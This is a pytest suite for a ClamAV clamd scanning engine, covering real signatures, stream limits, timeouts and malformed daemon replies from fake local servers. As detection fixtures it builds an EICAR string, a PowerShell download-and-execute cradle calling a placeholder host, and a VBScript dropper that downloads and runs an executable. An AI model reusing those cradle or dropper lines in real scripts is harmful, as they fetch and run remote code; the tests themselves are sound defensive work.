"""ClamdEngine against a real clamd (with the shipped signatures), and against small fake
servers on local sockets that misbehave: silent, slow, garbage, closing early."""

from __future__ import annotations

import contextlib
import hashlib
import itertools
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from splitstore._errors import ConfigError
from splitstore.scanning import Finding
from splitstore.scanning._clamd import ClamdEngine, shipped_database_dir
from tests.clamd_daemon import ClamdProcess, start_clamd

MiB = 1 << 20


def eicar() -> bytes:
    """The EICAR test file, joined at run time so no file of ours holds it whole."""
    return b"".join(
        [b"X5O!P%@AP[4\\PZX54(P^)7CC)7}", b"$EICAR-STAND", b"ARD-ANTIVIRUS-TEST-FILE!$H+H*"]
    )


def powershell_cradle() -> bytes:
    # In pieces for the same reason: some scanners flag the whole line in any file.
    return b"".join([b"iEx (New-", b"Object NET.WebClient).Download", b"String('http://x/y')"])


def wsh_dropper() -> bytes:
    return b"\n".join(
        [
            b'Set h = CreateObject("MSXML2.' + b'XMLHTTP")',
            b'Set s = CreateObject("ADODB.' + b'Stream")',
            b"s.SaveTo" + b'File "a.exe", 2',
            b'CreateObject("WScript.' + b'Shell").Run "a.exe"',
        ]
    )


def scan(engine: ClamdEngine, data: bytes, block: int = 256 << 10) -> list[Finding]:
    session = engine.session("file.bin", len(data))
    view = memoryview(data)
    for start in range(0, len(data), block):
        session.feed(view[start : start + block])
    return session.finish(None)


def only(findings: list[Finding], category: str) -> Finding:
    assert len(findings) == 1, findings
    assert findings[0].category == category, findings
    assert findings[0].engine == "clamav"
    return findings[0]


# --- shipped signatures and addresses (no clamd needed) ---------------------------------


def test_shipped_signatures_describe_eicar() -> None:
    folder = shipped_database_dir()
    assert sorted(p.name for p in folder.iterdir()) == [
        "splitstore.hsb",
        "splitstore.ldb",
        "splitstore.ndb",
    ]
    rules = {p.suffix: [ln for ln in p.read_text().splitlines() if not ln.startswith("#")]
             for p in folder.iterdir()}  # fmt: skip
    digest, size, name = rules[".hsb"][0].split(":")
    assert (digest, int(size)) == (hashlib.sha256(eicar()).hexdigest(), 68)
    assert name == "Splitstore.Test.EICAR.File"
    name, target, offset, hexsig = rules[".ndb"][0].split(":")
    assert (name, target, offset) == ("Splitstore.Test.EICAR.String", "0", "*")
    assert bytes.fromhex(hexsig) == eicar()
    for path in folder.iterdir():  # described in hex only, never as the bytes themselves
        assert eicar()[:20] not in path.read_bytes()


@pytest.mark.parametrize(
    "address",
    ["", "clamd", "unix:", "tcp:", "tcp:host", "tcp::3310", "tcp:host:0", "tcp:host:65536",
     "tcp:host:http", "tcp:host:-1", "http://host:3310", "unix:/" + "x" * 120],
)  # fmt: skip
def test_bad_addresses_are_config_errors(address: str) -> None:
    with pytest.raises(ConfigError, match="clamd address"):
        ClamdEngine(address)


@pytest.mark.parametrize("timeout", [0.0, -1.0, float("nan"), float("inf")])
def test_bad_timeouts_are_config_errors(timeout: float) -> None:
    with pytest.raises(ConfigError, match="timeout"):
        ClamdEngine("unix:/run/clamd.sock", timeout=timeout)


def test_good_addresses() -> None:
    for address in ("unix:/run/clamav/clamd.ctl", "tcp:localhost:3310", "tcp:[::1]:3310"):
        engine = ClamdEngine(address)
        assert (engine.name, engine.address, engine.timeout) == ("clamav", address, 30.0)


# --- a real clamd ----------------------------------------------------------------------


@pytest.fixture
def engine(clamd_address: str) -> ClamdEngine:
    return ClamdEngine(clamd_address, timeout=10)


def test_clean_and_empty_files(engine: ClamdEngine) -> None:
    assert scan(engine, b"just some text\n" * 10_000) == []
    assert scan(engine, b"") == []
    assert engine.session("empty", 0).finish(Path("unused")) == []


def test_eicar_file(engine: ClamdEngine) -> None:
    found = only(scan(engine, eicar()), "malware")
    assert found.rule.startswith("Splitstore.Test.EICAR")
    assert found.rule in found.detail


def test_eicar_inside_a_larger_file_across_chunks(engine: ClamdEngine) -> None:
    # The string straddles the 1 MiB INSTREAM chunk boundary and the feed boundaries.
    data = b"a" * (MiB - 30) + eicar() + b"b" * (2 * MiB)
    for block in (4 * MiB, MiB + 7, 65_535):
        found = only(scan(engine, data, block), "malware")
        assert found.rule.startswith("Splitstore.Test.EICAR.String")


def test_one_byte_blocks(engine: ClamdEngine) -> None:
    data = b"x" * 3000 + eicar() + b"y" * 3000
    assert only(scan(engine, data, 1), "malware").rule.startswith("Splitstore.Test.EICAR")
    assert scan(engine, b"z" * 7000, 1) == []


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    cuts=st.lists(st.integers(0, 200_000), max_size=12),
    at=st.integers(0, 200_000),
    infected=st.booleans(),
)
def test_verdict_does_not_depend_on_blocks(
    clamd_address: str, cuts: list[int], at: int, infected: bool
) -> None:
    filler = bytes(range(256)) * 800
    data = filler[:at] + (eicar() if infected else b"") + filler[at:]
    session = ClamdEngine(clamd_address, timeout=10).session("f", len(data))
    bounds = [0, *sorted(cut for cut in cuts if cut < len(data)), len(data)]
    view = memoryview(data)
    for start, end in itertools.pairwise(bounds):
        session.feed(view[start:end])
    findings = session.finish(None)
    assert [f.category for f in findings] == (["malware"] if infected else [])


def test_script_dropper_signatures(engine: ClamdEngine) -> None:
    text = b"# setup script\n" + powershell_cradle() + b"\n"
    rule = only(scan(engine, text), "malware").rule
    assert rule.startswith("Splitstore.Script.PowerShell.DownloadCradle")
    rule = only(scan(engine, wsh_dropper()), "malware").rule
    assert rule.startswith("Splitstore.Script.WSH.Downloader")
    # Pieces alone are everyday code, not a cradle.
    assert scan(engine, b"$c = New-Object Net.WebClient; $c.DownloadString($u)") == []
    assert scan(engine, b"ALEX (New-Object Net.WebClient).DownloadString($u)") == []
    assert scan(engine, b'Set s = CreateObject("ADODB.Stream")\ns.SaveToFile "x"') == []


def test_fed_views_are_not_kept(engine: ClamdEngine) -> None:
    session = engine.session("f", None)
    for size in (10, 3 * MiB):  # gathered, and sent straight through
        buffer = bytearray(b"q" * size)
        with memoryview(buffer) as view:
            session.feed(view)
        buffer.extend(b"more")  # BufferError if any view of it were still held
    assert session.finish(None) == []


def test_describe_reports_clamds_version(engine: ClamdEngine) -> None:
    assert engine.describe()["version"].startswith("ClamAV 1.")


# --- clamd's limits ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def small_clamd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClamdProcess]:
    """StreamMaxLength 1M, and MaxFileSize below it, so both limits can be met."""
    workdir = tmp_path_factory.mktemp("small-clamd")
    with start_clamd(workdir, stream_max_length="1M", options={"MaxFileSize": "256K"}) as c:
        yield c


def test_file_over_stream_limit_is_not_scanned(small_clamd: ClamdProcess) -> None:
    engine = ClamdEngine(small_clamd.address, timeout=10)
    started = time.monotonic()
    for data in (eicar() + b"x" * (2 * MiB), b"x" * (64 * MiB)):
        found = only(scan(engine, data, MiB), "not-scanned")
        assert "StreamMaxLength" in found.detail
        assert small_clamd.address in found.detail
    # Sending stops at the refusal: 64 MiB more to feed costs next to nothing.
    assert time.monotonic() - started < 5


def test_file_over_max_file_size_is_not_scanned(small_clamd: ClamdProcess) -> None:
    engine = ClamdEngine(small_clamd.address, timeout=10)
    found = only(scan(engine, b"x" * (512 << 10)), "not-scanned")
    assert "MaxFileSize" in found.detail
    assert found.detail.startswith(small_clamd.address)
    assert scan(engine, b"x" * (100 << 10)) == []


def test_hash_signature(tmp_path: Path) -> None:
    databases = tmp_path / "db"
    databases.mkdir()
    shutil.copy(shipped_database_dir() / "splitstore.hsb", databases)
    with start_clamd(tmp_path / "clamd", database_dir=databases) as clamd:
        engine = ClamdEngine(clamd.address, timeout=10)
        assert only(scan(engine, eicar()), "malware").rule.startswith("Splitstore.Test.EICAR.File")
        assert scan(engine, eicar() + b"\n") == []  # a hash matches the exact file only


# --- clamd missing or misbehaving --------------------------------------------------------


def test_clamd_down_is_not_scanned_fast(tmp_path: Path) -> None:
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    for address in (f"unix:{tmp_path / 'no.sock'}", f"tcp:127.0.0.1:{port}"):
        engine = ClamdEngine(address, timeout=5)
        started = time.monotonic()
        found = only(scan(engine, b"data" * 1000), "not-scanned")
        assert "cannot connect" in found.detail
        assert only(engine.session("e", 0).finish(None), "not-scanned")
        assert engine.describe() == {"version": "unreachable"}
        assert time.monotonic() - started < 1


Handler = Callable[[socket.socket], None]


class FakeServer:
    """A local socket server running ``handler`` on each connection, in a thread."""

    def __init__(self, handler: Handler, family: str, folder: Path) -> None:
        if family == "unix":
            path = folder / f"fake-{id(self)}.sock"
            self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.listener.bind(str(path))
            self.address = f"unix:{path}"
        else:
            self.listener = socket.socket()
            self.listener.bind(("127.0.0.1", 0))
            self.address = f"tcp:127.0.0.1:{self.listener.getsockname()[1]}"
        self.listener.listen(8)
        self.handler = handler
        self.connections: list[socket.socket] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.connections.append(conn)
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError):
            self.handler(conn)

    def close(self) -> None:
        self.listener.close()
        for conn in self.connections:
            conn.close()


@pytest.fixture(params=["unix", "tcp"])
def fake_server(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Callable[..., str]]:
    servers: list[FakeServer] = []

    def serve(handler: Handler) -> str:
        servers.append(FakeServer(handler, request.param, tmp_path))
        return servers[-1].address

    yield serve
    for server in servers:
        server.close()


def read_instream(conn: socket.socket) -> None:
    """Read a whole INSTREAM request, up to its zero-length chunk."""
    conn.settimeout(10)
    reader = conn.makefile("rb")
    assert reader.read(10) == b"zINSTREAM\0"
    while length := int.from_bytes(reader.read(4), "big"):
        reader.read(length)


def replying(reply: bytes, close: bool = True) -> Handler:
    def handler(conn: socket.socket) -> None:
        read_instream(conn)
        conn.sendall(reply)
        if close:
            conn.close()
        else:
            time.sleep(30)

    return handler


def silent(conn: socket.socket) -> None:
    time.sleep(30)  # accepts, reads nothing, says nothing


def test_silent_clamd_is_not_scanned_within_the_timeout(
    fake_server: Callable[[Handler], str],
) -> None:
    engine = ClamdEngine(fake_server(silent), timeout=0.5)
    for data in (b"small", b"x" * (16 * MiB)):  # waits for the reply; blocks in a send
        started = time.monotonic()
        found = only(scan(engine, data, 4 * MiB), "not-scanned")
        assert time.monotonic() - started < 1.5
        assert "time" in found.detail, found.detail
    started = time.monotonic()
    assert engine.describe() == {"version": "unreachable"}
    assert time.monotonic() - started < 1.5


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (b"hello there\0", "unexpected reply: 'hello there'"),
        (b"stream: \x1b[2J\xff FOUND\0", "unexpected reply"),
        (b"A" * 5000 + b"\0", "line over 1024 bytes"),
        (b"B" * 100_000, "over 16384 bytes"),
        (b"", "without a verdict"),
        (b"stream: O", "unexpected reply"),
        (b"\0\0\n", "without a verdict"),
        (b"stream: Can't allocate memory ERROR\0", "clamd: stream: Can't allocate memory ERROR"),
        (b"UNKNOWN COMMAND\0", "unexpected reply"),
    ],
)
def test_bad_replies_are_not_scanned(
    fake_server: Callable[[Handler], str], reply: bytes, expected: str
) -> None:
    engine = ClamdEngine(fake_server(replying(reply)), timeout=5)
    found = only(scan(engine, b"payload" * 100), "not-scanned")
    assert expected in found.detail


def test_replies_parsed_from_a_fake_clamd(fake_server: Callable[[Handler], str]) -> None:
    found = scan(ClamdEngine(fake_server(replying(b"stream: Evil.Thing-1 FOUND\0"))), b"x")
    assert only(found, "malware").rule == "Evil.Thing-1"
    # All-match mode: one reply per signature.
    many = b"stream: A.One FOUND\0stream: B.Two FOUND\0"
    assert [f.rule for f in scan(ClamdEngine(fake_server(replying(many))), b"x")] == [
        "A.One",
        "B.Two",
    ]
    # A final verdict needs no close; a FOUND (more may follow) is taken when time is up.
    engine = ClamdEngine(fake_server(replying(b"stream: OK\0", close=False)), timeout=5)
    started = time.monotonic()
    assert scan(engine, b"x") == []
    assert time.monotonic() - started < 1
    engine = ClamdEngine(fake_server(replying(b"stream: X FOUND\0", close=False)), timeout=0.5)
    assert only(scan(engine, b"x"), "malware").rule == "X"


def test_refusal_before_the_end_of_the_file(fake_server: Callable[[Handler], str]) -> None:
    def refuse(conn: socket.socket) -> None:
        conn.recv(100)
        conn.sendall(b"INSTREAM size limit exceeded. ERROR\0")
        conn.close()

    def hang_up(conn: socket.socket) -> None:
        conn.recv(100)
        conn.close()

    found = only(scan(ClamdEngine(fake_server(refuse)), b"x" * (8 * MiB)), "not-scanned")
    assert "StreamMaxLength" in found.detail
    found = only(scan(ClamdEngine(fake_server(hang_up)), b"x" * (8 * MiB)), "not-scanned")
    assert "closed the connection" in found.detail


def test_describe_rejects_a_garbage_version(fake_server: Callable[[Handler], str]) -> None:
    def version(conn: socket.socket) -> None:
        conn.recv(100)
        conn.sendall(b"\x00\x01 not clamd\0")
        conn.close()

    assert ClamdEngine(fake_server(version)).describe() == {"version": "unreachable"}
